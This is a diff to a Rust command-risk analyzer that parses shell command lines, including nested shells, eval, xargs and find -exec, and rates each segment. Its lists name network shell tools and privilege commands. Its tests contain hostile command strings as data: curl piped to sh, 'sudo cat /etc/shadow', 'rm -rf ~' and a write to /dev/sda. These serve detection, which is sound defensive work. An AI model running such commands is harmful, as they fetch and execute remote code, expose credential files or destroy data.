@@ -1,10 +1,22 @@
 //! Command analysis engine — classifies commands for security risk assessment.
+//!
+//! Command lines are split the way a POSIX shell splits them: pipelines and
+//! lists (`|`, `&&`, `||`, `;`, `&`), redirects, subshells, and `$(...)` /
+//! backtick substitutions are cut at unquoted operators, and each word's
+//! quoting and escapes are then removed by `shlex`. Each simple command
+//! becomes a `Segment` with its own risk, and scripts handed to another
+//! interpreter (`sh -c`, `eval`, `xargs`, `find -exec`) are parsed as nested
+//! segments, so a harmless-looking first word cannot hide what actually runs.
+//! Words whose value comes from `$VAR` expansion are flagged, since no
+//! pattern can tell what they will be.
 
 use regex::Regex;
 use once_cell::sync::Lazy;
+use serde::Serialize;
 
 /// Risk classification for an analyzed command.
-#[derive(Debug, Clone, PartialEq, Eq)]
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "lowercase")]
 pub enum CommandRisk {
     /// Clearly safe read-only operation.
     Safe,
@@ -16,103 +28,713 @@ pub enum CommandRisk {
     Critical,
 }
 
+/// What a finding is about, for UIs that group or icon them.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum FindingKind {
+    ShellOperator,
+    CommandSubstitution,
+    PrivilegeEscalation,
+    SystemPath,
+    PathTraversal,
+    Destructive,
+    RemoteCodeExecution,
+    /// A script handed to another shell (`sh -c`, `| sh`, `eval`).
+    NestedShell,
+    /// Commands run indirectly (`xargs`, `find -exec`).
+    IndirectExec,
+    /// Words filled in from `$VAR` / `${...}` at run time.
+    VariableExpansion,
+    /// Unbalanced quotes or parentheses.
+    Malformed,
+}
+
+/// One reason a command was rated the way it was.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "camelCase")]
+pub struct Finding {
+    pub kind: FindingKind,
+    pub risk: CommandRisk,
+    /// Index into `CommandAnalysis::segments`, when tied to one command.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub segment: Option<usize>,
+    pub message: String,
+}
+
+/// A `>`, `>>`, `<`, `2>&1`, ... redirect on a segment.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Redirect {
+    pub op: String,
+    pub target: String,
+}
+
+/// One simple command of a command line.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "camelCase")]
+pub struct Segment {
+    /// Words after quote removal, e.g. `["grep", "-r", "foo bar"]`.
+    pub argv: Vec<String>,
+    pub redirects: Vec<Redirect>,
+    /// Operator joining this segment to the previous one (`|`, `&&`, `||`, `;`, `&`).
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub joined_by: Option<String>,
+    /// 0 at top level; one more inside each substitution, subshell or nested script.
+    pub depth: usize,
+    pub risk: CommandRisk,
+}
+
+impl Segment {
+    /// The command line of this segment, re-joined with spaces.
+    pub fn line(&self) -> String {
+        self.argv.join(" ")
+    }
+}
+
 /// Analysis result for a command.
-#[derive(Debug, Clone)]
+#[derive(Debug, Clone, Serialize)]
+#[serde(rename_all = "camelCase")]
 pub struct CommandAnalysis {
     pub risk: CommandRisk,
     pub reasons: Vec<String>,
+    /// Every simple command found, nested ones included.
+    pub segments: Vec<Segment>,
+    pub findings: Vec<Finding>,
     /// True if command uses shell operators (|, &&, ||, ;, $()).
     pub has_shell_operators: bool,
     /// True if command tries to access paths outside workspace.
     pub has_path_traversal: bool,
     /// True if command uses sudo or su.
     pub has_privilege_escalation: bool,
-    /// True if command modifies system files (/etc, /usr, /sys, /proc).
+    /// True if command touches system files (/etc, /usr, /sys, /proc).
     pub modifies_system_paths: bool,
 }
 
-static SHELL_OPERATOR_RE: Lazy<Regex> =
-    Lazy::new(|| Regex::new(r"[|;&]|\$\(|\`").unwrap());
-
-static PRIVILEGE_ESCALATION_RE: Lazy<Regex> =
-    Lazy::new(|| Regex::new(r"\b(sudo|su|doas|pkexec|runas)\b").unwrap());
+impl CommandAnalysis {
+    /// Whether part of the command runs through another interpreter or
+    /// indirection, where a pattern on the outer command line can't see it.
+    pub fn has_indirection(&self) -> bool {
+        self.findings
+            .iter()
+            .any(|f| {
+                matches!(
+                    f.kind,
+                    FindingKind::NestedShell | FindingKind::IndirectExec | FindingKind::CommandSubstitution | FindingKind::VariableExpansion
+                )
+            })
+    }
+}
 
 static SYSTEM_PATH_RE: Lazy<Regex> =
-    Lazy::new(|| Regex::new(r"/(etc|usr|sys|proc|boot|lib|sbin|bin)(/|$)").unwrap());
-
-static DESTRUCTIVE_RE: Lazy<Regex> =
-    Lazy::new(|| Regex::new(r"\brm\s+-[^\s]*r|mkfs|dd\s+if=|format|shred|wipefs").unwrap());
+    Lazy::new(|| Regex::new(r"(^|[\s=:])/(etc|usr|sys|proc|boot|lib|sbin|bin)(/|$)").unwrap());
 
-static NETWORK_PIPE_RE: Lazy<Regex> =
-    Lazy::new(|| Regex::new(r"(curl|wget|fetch|nc)\s.*\|\s*(bash|sh|zsh|fish|dash)").unwrap());
+static RAW_DEVICE_RE: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"^/dev/(sd|hd|nvme|disk|mmcblk|xvd|vd)").unwrap());
 
-static EVAL_RE: Lazy<Regex> =
-    Lazy::new(|| Regex::new(r"\b(eval|exec)\s").unwrap());
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish", "ash", "csh", "tcsh"];
+const PRIVILEGE_COMMANDS: &[&str] = &["sudo", "su", "doas", "pkexec", "runas"];
+const NETWORK_FETCHERS: &[&str] = &["curl", "wget", "fetch", "nc", "ncat", "socat"];
+/// Commands that run the rest of their arguments as a command.
+const WRAPPERS: &[&str] = &["env", "nice", "nohup", "time", "timeout", "command", "builtin", "exec", "stdbuf", "ionice", "chrt"];
+/// Commands that write to the paths they are given.
+const WRITERS: &[&str] = &["rm", "mv", "cp", "tee", "chmod", "chown", "chgrp", "ln", "install", "truncate", "touch", "mkdir", "rmdir"];
+/// Nested parsing stops here; deeper scripts are reported as malformed.
+const MAX_DEPTH: usize = 8;
 
 /// Analyze a command string for security risk.
 pub fn analyze_command(command: &str) -> CommandAnalysis {
-    let mut reasons = Vec::new();
-    let mut risk = CommandRisk::Safe;
+    let mut analyzer = Analyzer::default();
+    analyzer.script(command, 0);
+    analyzer.finish()
+}
 
-    let has_shell_operators = SHELL_OPERATOR_RE.is_match(command);
-    let has_privilege_escalation = PRIVILEGE_ESCALATION_RE.is_match(command);
-    let modifies_system_paths = SYSTEM_PATH_RE.is_match(command);
-    let has_path_traversal = command.contains("../") || command.contains("/../../");
+/// Analyze a command that is exec'd directly rather than through a shell;
+/// the words are taken as-is, though scripts they hand to `sh -c` are parsed.
+pub fn analyze_argv(argv: &[&str]) -> CommandAnalysis {
+    let mut analyzer = Analyzer::default();
+    let pending = Pending { argv: argv.iter().map(|w| w.to_string()).collect(), ..Default::default() };
+    if !pending.argv.is_empty() {
+        analyzer.push_segment(pending, None, 0, 0);
+    }
+    analyzer.finish()
+}
 
-    if has_shell_operators {
-        reasons.push("Shell operators detected (|, ;, &&, $())".to_string());
-        risk = risk.max_risk(CommandRisk::Moderate);
+impl CommandRisk {
+    fn max_risk(self, other: CommandRisk) -> CommandRisk {
+        match (&self, &other) {
+            (CommandRisk::Critical, _) | (_, CommandRisk::Critical) => CommandRisk::Critical,
+            (CommandRisk::High, _) | (_, CommandRisk::High) => CommandRisk::High,
+            (CommandRisk::Moderate, _) | (_, CommandRisk::Moderate) => CommandRisk::Moderate,
+            _ => CommandRisk::Safe,
+        }
     }
+}
+
+// ---------------------------------------------------------------------------
+// Parsing
+// ---------------------------------------------------------------------------
 
-    if has_privilege_escalation {
-        reasons.push("Privilege escalation detected (sudo/su)".to_string());
-        risk = risk.max_risk(CommandRisk::High);
+/// A simple command being read.
+#[derive(Default)]
+struct Pending {
+    argv: Vec<String>,
+    redirects: Vec<Redirect>,
+    /// The word being read as written, quotes and escapes still in place.
+    raw: String,
+    /// The next word is the target of this redirect.
+    redirect: Option<String>,
+    /// Some word takes its value from a variable.
+    expands: bool,
+}
+
+impl Pending {
+    /// Finish the current word, removing its quoting.
+    fn end_word(&mut self) {
+        if self.raw.is_empty() {
+            return;
+        }
+        let raw = std::mem::take(&mut self.raw);
+        // The raw word has no unquoted blanks, so it unquotes to one word.
+        let word = shlex::split(&raw).map(|words| words.join(" ")).unwrap_or(raw);
+        match self.redirect.take() {
+            Some(op) => self.redirects.push(Redirect { op, target: word }),
+            None => self.argv.push(word),
+        }
     }
 
-    if modifies_system_paths {
-        reasons.push("References system directories (/etc, /usr, etc.)".to_string());
-        risk = risk.max_risk(CommandRisk::High);
+    /// A bare number right before a redirect is its file descriptor (`2>`).
+    fn take_fd(&mut self) -> Option<String> {
+        (!self.raw.is_empty() && self.raw.chars().all(|c| c.is_ascii_digit())).then(|| std::mem::take(&mut self.raw))
     }
+}
+
+#[derive(Default)]
+struct Analyzer {
+    segments: Vec<Segment>,
+    findings: Vec<Finding>,
+}
 
-    if has_path_traversal {
-        reasons.push("Path traversal pattern detected (..)".to_string());
-        risk = risk.max_risk(CommandRisk::Moderate);
+impl Analyzer {
+    fn finish(self) -> CommandAnalysis {
+        let risk = self.findings.iter().fold(CommandRisk::Safe, |risk, f| risk.max_risk(f.risk));
+        let mut reasons: Vec<String> = Vec::new();
+        for finding in &self.findings {
+            if !reasons.contains(&finding.message) {
+                reasons.push(finding.message.clone());
+            }
+        }
+        let has = |kind: FindingKind| self.findings.iter().any(|f| f.kind == kind);
+        CommandAnalysis {
+            risk,
+            reasons,
+            has_shell_operators: has(FindingKind::ShellOperator) || has(FindingKind::CommandSubstitution),
+            has_path_traversal: has(FindingKind::PathTraversal),
+            has_privilege_escalation: has(FindingKind::PrivilegeEscalation),
+            modifies_system_paths: has(FindingKind::SystemPath),
+            segments: self.segments,
+            findings: self.findings,
+        }
     }
 
-    if DESTRUCTIVE_RE.is_match(command) {
-        reasons.push("Potentially destructive command detected (rm -rf, mkfs, dd)".to_string());
-        risk = risk.max_risk(CommandRisk::Critical);
+    fn finding(&mut self, kind: FindingKind, risk: CommandRisk, segment: Option<usize>, message: impl Into<String>) {
+        self.findings.push(Finding { kind, risk, segment, message: message.into() });
     }
 
-    if NETWORK_PIPE_RE.is_match(command) {
-        reasons.push("Remote code execution pattern: curl|bash".to_string());
-        risk = risk.max_risk(CommandRisk::Critical);
+    /// Parse a script (a list of pipelines) at `depth`.
+    fn script(&mut self, src: &str, depth: usize) {
+        if depth > MAX_DEPTH {
+            self.finding(FindingKind::Malformed, CommandRisk::High, None, "Command nests scripts too deeply to analyze");
+            return;
+        }
+        let chars: Vec<char> = src.chars().collect();
+        let mut pending = Pending::default();
+        let mut joined_by: Option<String> = None;
+        let mut pipeline_start = self.segments.len();
+        let mut i = 0;
+
+        while i < chars.len() {
+            let c = chars[i];
+            let next = chars.get(i + 1).copied();
+            match c {
+                ' ' | '\t' => pending.end_word(),
+                '\\' => {
+                    // A backslash-newline joins lines; anything else stays
+                    // escaped for `shlex` to resolve.
+                    match next {
+                        Some('\n') => {}
+                        Some(escaped) => {
+                            pending.raw.push('\\');
+                            pending.raw.push(escaped);
+                        }
+                        None => pending.raw.push('\\'),
+                    }
+                    i += 1;
+                }
+                '\'' => match chars[i + 1..].iter().position(|&c| c == '\'') {
+                    Some(len) => {
+                        pending.raw.extend(&chars[i..=i + 1 + len]);
+                        i += len + 1;
+                    }
+                    None => {
+                        self.finding(FindingKind::Malformed, CommandRisk::High, None, "Unterminated single quote");
+                        pending.raw.extend(&chars[i..]);
+                        pending.raw.push('\'');
+                        i = chars.len();
+                    }
+                },
+                '"' => i = self.double_quoted(&chars, i + 1, &mut pending, depth),
+                '`' => match chars[i + 1..].iter().position(|&c| c == '`') {
+                    Some(len) => {
+                        let inner: String = chars[i + 1..i + 1 + len].iter().collect();
+                        self.substitution(&inner, depth);
+                        pending.raw.push_str("'$(...)'");
+                        i += len + 1;
+                    }
+                    None => {
+                        self.finding(FindingKind::Malformed, CommandRisk::High, None, "Unterminated backtick");
+                        i = chars.len();
+                    }
+                },
+                '$' if next == Some('(') && chars.get(i + 2) != Some(&'(') => match closing_paren(&chars, i + 2) {
+                    Some(end) => {
+                        let inner: String = chars[i + 2..end].iter().collect();
+                        self.substitution(&inner, depth);
+                        pending.raw.push_str("'$(...)'");
+                        i = end;
+                    }
+                    None => {
+                        self.finding(FindingKind::Malformed, CommandRisk::High, None, "Unbalanced $( in command");
+                        i = chars.len();
+                    }
+                },
+                '$' => {
+                    pending.expands |= next.is_some_and(starts_expansion);
+                    pending.raw.push('$');
+                }
+                '(' if pending.raw.is_empty() && pending.argv.is_empty() => match closing_paren(&chars, i + 1) {
+                    Some(end) => {
+                        let inner: String = chars[i + 1..end].iter().collect();
+                        self.script(&inner, depth + 1);
+                        i = end;
+                    }
+                    None => {
+                        self.finding(FindingKind::Malformed, CommandRisk::High, None, "Unbalanced ( in command");
+                        i = chars.len();
+                    }
+                },
+                '#' if pending.raw.is_empty() => {
+                    i = chars[i..].iter().position(|&c| c == '\n').map_or(chars.len(), |len| i + len);
+                    continue;
+                }
+                ';' | '\n' | '|' | '&' if !(c == '&' && next == Some('>')) => {
+                    let op = match (c, next) {
+                        ('|', Some('|')) => "||",
+                        ('|', Some('&')) => "|&",
+                        ('&', Some('&')) => "&&",
+                        ('\n', _) => ";",
+                        (';', _) => ";",
+                        ('|', _) => "|",
+                        _ => "&",
+                    };
+                    if op.len() == 2 {
+                        i += 1;
+                    }
+                    pending.end_word();
+                    let ended = std::mem::take(&mut pending);
+                    if !ended.argv.is_empty() || !ended.redirects.is_empty() {
+                        self.push_segment(ended, joined_by.take(), depth, pipeline_start);
+                    }
+                    if !op.starts_with('|') {
+                        pipeline_start = self.segments.len();
+                    }
+                    joined_by = Some(op.to_string());
+                }
+                '>' | '<' | '&' => {
+                    let fd = match pending.take_fd() {
+                        Some(fd) => fd,
+                        None => {
+                            pending.end_word();
+                            String::new()
+                        }
+                    };
+                    let mut op = format!("{}{}", fd, c);
+                    while let Some(&more @ ('>' | '<' | '&')) = chars.get(i + 1) {
+                        op.push(more);
+                        i += 1;
+                    }
+                    // `2>&1`: the target is the fd right after `>&`.
+                    if op.ends_with('&') {
+                        if let Some(&digit) = chars.get(i + 1).filter(|c| c.is_ascii_digit() || **c == '-') {
+                            pending.redirects.push(Redirect { op, target: digit.to_string() });
+                            i += 2;
+                            continue;
+                        }
+                    }
+                    pending.redirect = Some(op);
+                }
+                c => pending.raw.push(c),
+            }
+            i += 1;
+        }
+
+        pending.end_word();
+        if !pending.argv.is_empty() || !pending.redirects.is_empty() {
+            self.push_segment(pending, joined_by, depth, pipeline_start);
+        }
     }
 
-    if EVAL_RE.is_match(command) {
-        reasons.push("eval/exec detected".to_string());
-        risk = risk.max_risk(CommandRisk::High);
+    /// Copy a `"..."` string starting after the opening quote into the
+    /// current word; returns the index of the closing quote. Substitutions
+    /// and variables inside still expand, so they are parsed and flagged.
+    fn double_quoted(&mut self, chars: &[char], mut i: usize, pending: &mut Pending, depth: usize) -> usize {
+        pending.raw.push('"');
+        while i < chars.len() {
+            match chars[i] {
+                '"' => {
+                    pending.raw.push('"');
+                    return i;
+                }
+                '\\' if i + 1 < chars.len() => {
+                    pending.raw.push('\\');
+                    pending.raw.push(chars[i + 1]);
+                    i += 1;
+                }
+                '$' if chars.get(i + 1) == Some(&'(') && chars.get(i + 2) != Some(&'(') => {
+                    if let Some(end) = closing_paren(chars, i + 2) {
+                        let inner: String = chars[i + 2..end].iter().collect();
+                        self.substitution(&inner, depth);
+                        pending.raw.push_str("$(...)");
+                        i = end;
+                    } else {
+                        pending.raw.push('$');
+                    }
+                }
+                '$' => {
+                    pending.expands |= chars.get(i + 1).copied().is_some_and(starts_expansion);
+                    pending.raw.push('$');
+                }
+                '`' => {
+                    if let Some(len) = chars[i + 1..].iter().position(|&c| c == '`') {
+                        let inner: String = chars[i + 1..i + 1 + len].iter().collect();
+                        self.substitution(&inner, depth);
+                        pending.raw.push_str("$(...)");
+                        i += len + 1;
+                    }
+                }
+                c => pending.raw.push(c),
+            }
+            i += 1;
+        }
+        self.finding(FindingKind::Malformed, CommandRisk::High, None, "Unterminated double quote");
+        pending.raw.push('"');
+        chars.len()
     }
 
-    CommandAnalysis {
-        risk,
-        reasons,
-        has_shell_operators,
-        has_path_traversal,
-        has_privilege_escalation,
-        modifies_system_paths,
+    fn substitution(&mut self, inner: &str, depth: usize) {
+        self.finding(
+            FindingKind::CommandSubstitution,
+            CommandRisk::Moderate,
+            None,
+            "Command substitution runs a nested command",
+        );
+        self.script(inner, depth + 1);
+    }
+
+    // -----------------------------------------------------------------------
+    // Classification
+    // -----------------------------------------------------------------------
+
+    /// Record a finished simple command and rate it. `pipeline_start` is the
+    /// index of the first segment of the pipeline it belongs to.
+    fn push_segment(&mut self, pending: Pending, joined_by: Option<String>, depth: usize, pipeline_start: usize) {
+        let index = self.segments.len();
+        let first_finding = self.findings.len();
+        if joined_by.is_some() {
+            self.finding(
+                FindingKind::ShellOperator,
+                CommandRisk::Moderate,
+                Some(index),
+                "Shell operators detected (|, ;, &&, $())",
+            );
+        }
+        if pending.expands {
+            self.finding(
+                FindingKind::VariableExpansion,
+                CommandRisk::Moderate,
+                Some(index),
+                "Expands variables whose values are unknown until it runs",
+            );
+        }
+        let piped = joined_by.as_deref().is_some_and(|op| op.starts_with('|'));
+        let previous: Vec<String> = self.segments[pipeline_start.min(index)..]
+            .iter()
+            .filter(|s| s.depth == depth)
+            .filter_map(|s| effective_command(&s.argv).first().map(|name| basename(name).to_string()))
+            .collect();
+
+        self.segments.push(Segment {
+            argv: pending.argv,
+            redirects: pending.redirects,
+            joined_by,
+            depth,
+            risk: CommandRisk::Safe,
+        });
+        self.classify(index, depth, piped, &previous);
+
+        let risk = self.findings[first_finding..]
+            .iter()
+            .filter(|f| f.segment == Some(index))
+            .fold(CommandRisk::Safe, |risk, f| risk.max_risk(f.risk));
+        self.segments[index].risk = risk;
+    }
+
+    fn classify(&mut self, index: usize, depth: usize, piped: bool, previous: &[String]) {
+        let argv = self.segments[index].argv.clone();
+        let redirects = self.segments[index].redirects.clone();
+        let at = Some(index);
+
+        let command = effective_command(&argv);
+
+        // Privilege escalation can sit anywhere in a wrapper chain (`env sudo ...`).
+        let launcher = &argv[..(argv.len() - command.len() + 1).min(argv.len())];
+        if let Some(bin) = launcher.iter().map(|w| basename(w)).find(|w| PRIVILEGE_COMMANDS.contains(w)) {
+            self.finding(
+                FindingKind::PrivilegeEscalation,
+                CommandRisk::High,
+                at,
+                format!("Privilege escalation detected ({})", bin),
+            );
+        }
+
+        for redirect in &redirects {
+            let writes = redirect.op.contains('>');
+            if writes && RAW_DEVICE_RE.is_match(&redirect.target) {
+                self.finding(
+                    FindingKind::Destructive,
+                    CommandRisk::Critical,
+                    at,
+                    format!("Writes directly to a disk device ({})", redirect.target),
+                );
+            } else if SYSTEM_PATH_RE.is_match(&redirect.target) {
+                let risk = if writes { CommandRisk::High } else { CommandRisk::Moderate };
+                self.finding(FindingKind::SystemPath, risk, at, "References system directories (/etc, /usr, etc.)");
+            }
+            if is_traversal(&redirect.target) {
+                self.finding(FindingKind::PathTraversal, CommandRisk::Moderate, at, "Path traversal pattern detected (..)");
+            }
+        }
+
+        let Some(name) = command.first().map(|n| basename(n)) else { return };
+        let args = &command[1..];
+
+        if argv[1..].iter().any(|w| SYSTEM_PATH_RE.is_match(w)) {
+            let risk = if WRITERS.contains(&name) { CommandRisk::High } else { CommandRisk::Moderate };
+            self.finding(FindingKind::SystemPath, risk, at, "References system directories (/etc, /usr, etc.)");
+        }
+        if argv.iter().any(|w| is_traversal(w)) {
+            self.finding(FindingKind::PathTraversal, CommandRisk::Moderate, at, "Path traversal pattern detected (..)");
+        }
+
+        match name {
+            "rm" if args.iter().any(|a| a == "--recursive" || (a.starts_with('-') && !a.starts_with("--") && a.contains(['r', 'R']))) => {
+                self.finding(
+                    FindingKind::Destructive,
+                    CommandRisk::Critical,
+                    at,
+                    "Potentially destructive command detected (rm -rf, mkfs, dd)",
+                );
+            }
+            "shred" | "wipefs" | "fdisk" | "sfdisk" | "parted" | "format" => {
+                self.finding(
+                    FindingKind::Destructive,
+                    CommandRisk::Critical,
+                    at,
+                    format!("Potentially destructive command detected ({})", name),
+                );
+            }
+            _ if name.starts_with("mkfs") => {
+                self.finding(
+                    FindingKind::Destructive,
+                    CommandRisk::Critical,
+                    at,
+                    "Potentially destructive command detected (rm -rf, mkfs, dd)",
+                );
+            }
+            "dd" => {
+                let device = args.iter().any(|a| a.strip_prefix("of=").is_some_and(|t| RAW_DEVICE_RE.is_match(t)));
+                let risk = if device { CommandRisk::Critical } else { CommandRisk::High };
+                self.finding(FindingKind::Destructive, risk, at, "Potentially destructive command detected (rm -rf, mkfs, dd)");
+            }
+            "chmod" if args.iter().any(|a| a.ends_with("777") || a.contains("o+w") || a.contains("a+w")) => {
+                self.finding(FindingKind::SystemPath, CommandRisk::Moderate, at, "Makes files world-writable");
+            }
+            "eval" => {
+                self.finding(FindingKind::NestedShell, CommandRisk::High, at, "eval/exec detected");
+                self.script(&args.join(" "), depth + 1);
+            }
+            "xargs" => {
+                let inner = xargs_command(args);
+                let runs = inner.first().map(|n| basename(n)).unwrap_or("echo");
+                self.finding(
+                    FindingKind::IndirectExec,
+                    CommandRisk::Moderate,
+                    at,
+                    format!("xargs runs `{}` on its input", runs),
+                );
+                self.nested_command(inner, depth);
+            }
+            "find" => {
+                let mut rest = args;
+                while let Some(pos) = rest.iter().position(|a| matches!(a.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir")) {
+                    let after = &rest[pos + 1..];
+                    let end = after.iter().position(|a| a == ";" || a == "+").unwrap_or(after.len());
+                    self.finding(
+                        FindingKind::IndirectExec,
+                        CommandRisk::Moderate,
+                        at,
+                        format!("find {} runs a command on each match", rest[pos]),
+                    );
+                    self.nested_command(&after[..end], depth);
+                    rest = &after[end.min(after.len())..];
+                }
+                if args.iter().any(|a| a == "-delete") {
+                    self.finding(FindingKind::Destructive, CommandRisk::High, at, "find -delete removes matching files");
+                }
+            }
+            _ if SHELLS.contains(&name) || name == "su" => {
+                if let Some(pos) = args.iter().position(|a| a == "-c" || (a.starts_with('-') && !a.starts_with("--") && a.ends_with('c'))) {
+                    self.finding(
+                        FindingKind::NestedShell,
+                        CommandRisk::High,
+                        at,
+                        format!("Runs a script through `{} -c`", name),
+                    );
+                    if let Some(script) = args.get(pos + 1) {
+                        self.script(script, depth + 1);
+                    }
+                } else if piped {
+                    if previous.iter().any(|p| NETWORK_FETCHERS.contains(&p.as_str())) {
+                        self.finding(
+                            FindingKind::RemoteCodeExecution,
+                            CommandRisk::Critical,
+                            at,
+                            "Remote code execution pattern: curl|bash",
+                        );
+                    } else {
+                        self.finding(
+                            FindingKind::NestedShell,
+                            CommandRisk::High,
+                            at,
+                            format!("Pipes a script into `{}`", name),
+                        );
+                    }
+                }
+            }
+            _ => {}
+        }
+    }
+
+    /// Rate a command run by another one (`xargs cmd`, `find -exec cmd`).
+    fn nested_command(&mut self, argv: &[String], depth: usize) {
+        if argv.is_empty() || depth >= MAX_DEPTH {
+            return;
+        }
+        let pending = Pending { argv: argv.to_vec(), ..Default::default() };
+        let start = self.segments.len();
+        self.push_segment(pending, None, depth + 1, start);
     }
 }
 
-impl CommandRisk {
-    fn max_risk(self, other: CommandRisk) -> CommandRisk {
-        match (&self, &other) {
-            (CommandRisk::Critical, _) | (_, CommandRisk::Critical) => CommandRisk::Critical,
-            (CommandRisk::High, _) | (_, CommandRisk::High) => CommandRisk::High,
-            (CommandRisk::Moderate, _) | (_, CommandRisk::Moderate) => CommandRisk::Moderate,
-            _ => CommandRisk::Safe,
+/// Index of the `)` closing a group whose contents start at `start`,
+/// skipping quoted text and nested groups.
+fn closing_paren(chars: &[char], start: usize) -> Option<usize> {
+    let mut depth = 1;
+    let mut i = start;
+    while i < chars.len() {
+        match chars[i] {
+            '\\' => i += 1,
+            '\'' => i += chars[i + 1..].iter().position(|&c| c == '\'')? + 1,
+            '"' => {
+                i += 1;
+                while i < chars.len() && chars[i] != '"' {
+                    if chars[i] == '\\' {
+                        i += 1;
+                    }
+                    i += 1;
+                }
+            }
+            '(' => depth += 1,
+            ')' => {
+                depth -= 1;
+                if depth == 0 {
+                    return Some(i);
+                }
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    None
+}
+
+/// Whether `$` followed by `c` expands a parameter (`$HOME`, `${x}`, `$1`, `$@`).
+fn starts_expansion(c: char) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, '_' | '{' | '@' | '*' | '#' | '?' | '$' | '!' | '-')
+}
+
+/// The command that actually runs once `VAR=value` assignments and
+/// wrappers like `env`, `nice`, `timeout` or `sudo` are peeled off.
+fn effective_command(argv: &[String]) -> &[String] {
+    let mut rest = argv;
+    loop {
+        while rest.first().is_some_and(|w| is_assignment(w)) {
+            rest = &rest[1..];
+        }
+        let Some(first) = rest.first() else { return rest };
+        let name = basename(first);
+        let wraps = WRAPPERS.contains(&name) || (PRIVILEGE_COMMANDS.contains(&name) && name != "su");
+        if !wraps {
+            return rest;
+        }
+        rest = &rest[1..];
+        // Options of the wrapper, and the duration `timeout` takes.
+        while rest.first().is_some_and(|w| w.starts_with('-') && w != "-") {
+            let option = rest[0].as_str();
+            rest = &rest[1..];
+            if matches!(option, "-u" | "-n" | "-g" | "-C" | "-s" | "-k") && !rest.is_empty() {
+                rest = &rest[1..];
+            }
+        }
+        if name == "timeout" && !rest.is_empty() {
+            rest = &rest[1..];
+        }
+    }
+}
+
+/// The command `xargs` runs: the first word after its options.
+fn xargs_command(args: &[String]) -> &[String] {
+    let mut i = 0;
+    while i < args.len() && args[i].starts_with('-') {
+        // Options that take a separate value.
+        if matches!(args[i].as_str(), "-I" | "-n" | "-P" | "-L" | "-d" | "-E" | "-s" | "-a") {
+            i += 1;
         }
+        i += 1;
     }
+    &args[i.min(args.len())..]
+}
+
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=').is_some_and(|(name, _)| {
+        !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') && !name.starts_with(|c: char| c.is_ascii_digit())
+    })
+}
+
+fn is_traversal(word: &str) -> bool {
+    word == ".." || word.starts_with("../") || word.contains("/../") || word.ends_with("/..")
+}
+
+fn basename(word: &str) -> &str {
+    word.rsplit('/').next().unwrap_or(word)
 }
 
 #[cfg(test)]
@@ -149,4 +771,73 @@ mod tests {
         assert!(analysis.has_shell_operators);
         assert!(analysis.modifies_system_paths);
     }
+
+    #[test]
+    fn splits_segments_and_respects_quotes() {
+        let analysis = analyze_command(r#"git log --format='%h | %s' && echo "done; ok" 2>&1 > out.txt"#);
+        let lines: Vec<String> = analysis.segments.iter().map(Segment::line).collect();
+        assert_eq!(lines, ["git log --format=%h | %s", "echo done; ok"]);
+        assert_eq!(analysis.segments[1].joined_by.as_deref(), Some("&&"));
+        assert_eq!(
+            analysis.segments[1].redirects,
+            [Redirect { op: "2>&".into(), target: "1".into() }, Redirect { op: ">".into(), target: "out.txt".into() }]
+        );
+        // `--format` is not the `format` command.
+        assert_eq!(analysis.risk, CommandRisk::Moderate);
+    }
+
+    #[test]
+    fn removes_quotes_like_a_shell_and_flags_expansion() {
+        let analysis = analyze_command(r#"r"m" -rf a\ b 'x'"y"z"#);
+        assert_eq!(analysis.segments[0].argv, ["rm", "-rf", "a b", "xyz"]);
+        assert_eq!(analysis.risk, CommandRisk::Critical);
+        assert!(!analysis.has_indirection());
+
+        let analysis = analyze_command("ls\n$CMD --force");
+        assert_eq!(analysis.segments.len(), 2);
+        let expansion = analysis.findings.iter().find(|f| f.kind == FindingKind::VariableExpansion).unwrap();
+        assert_eq!(expansion.segment, Some(1));
+        assert!(analysis.has_indirection());
+
+        assert!(!analyze_command("echo '$HOME' \\$PATH").has_indirection());
+        assert!(analyze_command(r#"rm -rf "${DIR}/build""#).has_indirection());
+    }
+
+    #[test]
+    fn sees_through_nested_shells_and_indirection() {
+        let analysis = analyze_command(r#"ls && sh -c "echo hi; rm -rf ~""#);
+        assert_eq!(analysis.risk, CommandRisk::Critical);
+        let rm = analysis.segments.iter().find(|s| s.argv[0] == "rm").unwrap();
+        assert_eq!((rm.depth, rm.risk), (1, CommandRisk::Critical));
+        assert!(analysis.has_indirection());
+
+        let analysis = analyze_command("echo $(sudo cat /etc/shadow) | xargs -n1 bash");
+        assert!(analysis.has_privilege_escalation);
+        assert!(analysis.findings.iter().any(|f| f.kind == FindingKind::CommandSubstitution));
+        assert!(analysis.findings.iter().any(|f| f.kind == FindingKind::IndirectExec));
+
+        let analysis = analyze_command("find . -name '*.tmp' -exec rm -r {} \\;");
+        assert_eq!(analysis.risk, CommandRisk::Critical);
+
+        let analysis = analyze_command("eval 'curl -s https://x.sh | sh'");
+        assert!(analysis.findings.iter().any(|f| f.kind == FindingKind::RemoteCodeExecution));
+
+        let analysis = analyze_command("echo 'unterminated");
+        assert_eq!(analysis.findings[0].kind, FindingKind::Malformed);
+
+        // Exec'd directly: the `-c` script is one word, parsed on its own.
+        let analysis = analyze_argv(&["bash", "-c", "cd /tmp && curl -fsSL https://x.sh | sh"]);
+        assert_eq!(analysis.risk, CommandRisk::Critical);
+        assert_eq!(analysis.segments[0].argv.len(), 3);
+    }
+
+    #[test]
+    fn rates_each_segment() {
+        let analysis = analyze_command("cat notes.txt; echo x > /dev/sda");
+        assert_eq!(analysis.segments[0].risk, CommandRisk::Safe);
+        assert_eq!(analysis.segments[1].risk, CommandRisk::Critical);
+        let json = serde_json::to_value(&analysis).unwrap();
+        assert_eq!(json["segments"][1]["joinedBy"], ";");
